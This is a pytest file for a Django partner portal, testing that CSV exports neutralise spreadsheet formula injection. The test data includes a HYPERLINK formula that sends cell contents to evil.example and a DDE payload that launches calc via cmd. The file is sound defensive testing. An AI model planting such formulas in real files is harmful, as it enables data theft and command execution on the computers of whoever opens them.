# SPDX-License-Identifier: AGPL-3.0-or-later
"""Formula injection: every file the portal writes goes through portal.core.csv."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from portal.core.csv import csv_writer, neutralise
from portal.leads import services as leads
from portal.payouts.batches import payout_batch_approve, payout_batch_build, payout_batch_start
from portal.payouts.models import Commission
from tests.factories import UserFactory, submit_lead

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    "cell",
    [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "-1e3"],
)
def test_a_formula_start_becomes_text(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "value, text",
    [
        ("-12.50", "-12.50"),
        (Decimal("-0.01"), "-0.01"),
        (-7, "-7"),
        ("Ann Smith", "Ann Smith"),
        ("a=b", "a=b"),
        (None, ""),
        ("", ""),
    ],
)
def test_plain_values_and_numbers_stay_as_they_are(value, text):
    assert neutralise(value) == text


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    csv_writer(out).writerows([["ok", "=1+1"], ["@x", "-3.5"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["ok", "'=1+1"], ["'@x", "-3.5"]]


def _employee_batch(finance):
    batch = payout_batch_start(
        actor=finance, kind="payroll", currency="EUR", cutoff=timezone.localdate()
    )
    return payout_batch_build(batch_id=batch.pk)


def test_an_employee_named_as_a_formula_arrives_neutralised_in_the_payout_file(
    reviewer, finance, second_finance, program, percent_plan
):
    attacker = UserFactory(first_name=HYPERLINK, last_name="@Smith")
    lead = submit_lead(attacker, program)
    leads.lead_qualify(lead=lead, actor=reviewer)
    leads.lead_mark_won(lead=lead, actor=reviewer, deal_value="1000.00", currency="EUR")
    Commission.objects.update(status="approved", approved_at=timezone.now())
    batch = _employee_batch(finance)
    assert batch.status == "built"
    batch = payout_batch_approve(actor=second_finance, batch=batch)
    batch.export.open("rb")
    text = batch.export.read().decode()
    batch.export.close()
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["payee"].startswith("'=HYPERLINK(") and attacker.email in row["payee"]
    assert row["amount"] == "250.00"  # numbers stay numbers


def test_the_statement_download_goes_through_the_safe_writer(
    client, partner_admin, partner_user, reviewer, program, flat_plan, monkeypatch
):
    leads.lead_qualify(lead=submit_lead(partner_user, program), actor=reviewer)
    # The statement's words come from the catalogs; a hostile translation is the attack.
    from portal.payouts.models import Commission as C

    monkeypatch.setattr(C, "get_event_display", lambda self: "=cmd|' /C calc'!A0")
    client.force_login(partner_admin)
    today = timezone.localdate()
    download = client.get(
        reverse("payouts:statement", args=[today.year, today.month]) + "?format=csv"
    )
    rows = list(csv.reader(io.StringIO(download.content.decode())))
    assert ["Earned", "100.00"] in rows  # headings in the reader's language (English here)
    [line] = [r for r in rows if len(r) == 7 and r[0].isdigit()]
    assert line[4] == "'=cmd|' /C calc'!A0"  # commission_id, date, lead, company, for, …


def test_the_import_error_report_neutralises_the_refused_rows(client, reviewer, program):
    client.force_login(reviewer)
    text = (
        "program,referrer_email,name,email,phone,company,notes,consent\n"
        f'{program.slug},nobody@nowhere.example,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",'
        "x@xco.example,,@Corp,,yes\n"
    )
    client.post(
        reverse("leads_admin:import"),
        {"file": SimpleUploadedFile("leads.csv", text.encode(), "text/csv")},
    )
    done = client.post(reverse("leads_admin:import"), {"confirm": "1"})
    assert reverse("leads_admin:import_errors") in done.content.decode()
    report = client.get(reverse("leads_admin:import_errors"))
    assert report["Content-Type"].startswith("text/csv")
    [row] = list(csv.DictReader(io.StringIO(report.content.decode())))
    assert row["line"] == "2"
    assert row["name"] == "'" + HYPERLINK and row["company"] == "'@Corp"
    assert "No active referrer" in row["problems"]


def test_the_import_error_report_is_refused_to_non_reviewers(client, employee):
    client.force_login(employee)
    assert client.get(reverse("leads_admin:import_errors")).status_code in (302, 403)
